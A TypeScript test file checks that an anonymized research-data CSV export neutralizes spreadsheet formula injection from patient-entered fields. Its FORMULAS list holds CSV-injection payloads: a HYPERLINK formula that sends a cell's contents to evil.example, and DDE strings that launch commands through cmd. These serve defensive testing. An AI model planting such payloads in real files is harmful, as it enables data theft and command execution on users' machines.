import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import {
  anonymize,
  type Guarantee,
  parseSchema,
  releaseText,
  verifyRelease,
} from "../../../host/research/index.ts";
import { tableOf } from "./tables.ts";

const FORMULAS = [
  '=HYPERLINK("https://evil.example/?"&A1,"more")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "＝1+1",
];
const schema = parseSchema({
  columns: [
    { name: "name", role: "identifier" },
    { name: "age", role: "quasi-identifier", type: "numeric" },
    { name: "complaint", role: "sensitive", type: "categorical" },
    { name: "change", role: "sensitive", type: "numeric" },
    { name: "remark", role: "plain" },
  ],
});
const guarantee: Guarantee = { k: 5, l: 2, t: 1, diversity: "distinct" };
const release = anonymize(
  tableOf(
    schema,
    FORMULAS.flatMap((formula, i) => [
      [`P ${2 * i}`, String(30 + i), formula, String(-1.5 - i), formula],
      [`P ${2 * i + 1}`, String(30 + i), `none ${i}`, "-3", "it's fine"],
    ]),
  ),
  { guarantee },
);
const csv = [...releaseText(release, { schema, format: "csv", seed: "s" })].join("");

describe("a patient who writes a formula into what is released", () => {
  it("has no spreadsheet run it, and changes no number", () => {
    for (const formula of FORMULAS) {
      const quoted = formula.replaceAll('"', '""');
      expect(csv.split(`'${quoted}`)).toHaveLength(3);
    }
    expect(csv).not.toMatch(/(?:^|,)"?[=+@＝]/m);
    expect(csv).not.toMatch(/,"?-2\+3/);
    expect(csv).toMatch(/,-1\.5,/);
    expect(csv).toMatch(/,-3,it's fine/);
  });

  it("keeps nobody from checking the release, and what is no CSV says what was written", async () => {
    const folder = await mkdtemp(join(tmpdir(), "research-"));
    try {
      const file = join(folder, "release.csv");
      await writeFile(file, csv);
      const verified = await verifyRelease(file, { schema, guarantee, format: "csv" });
      expect(verified).toMatchObject({ holds: true, rows: 10, faults: [] });
      const json = [...releaseText(release, { schema, format: "ndjson", seed: "s" })].join("");
      expect(json).toContain(JSON.stringify(FORMULAS[0]));
    } finally {
      await rm(folder, { recursive: true, force: true });
    }
  });
});
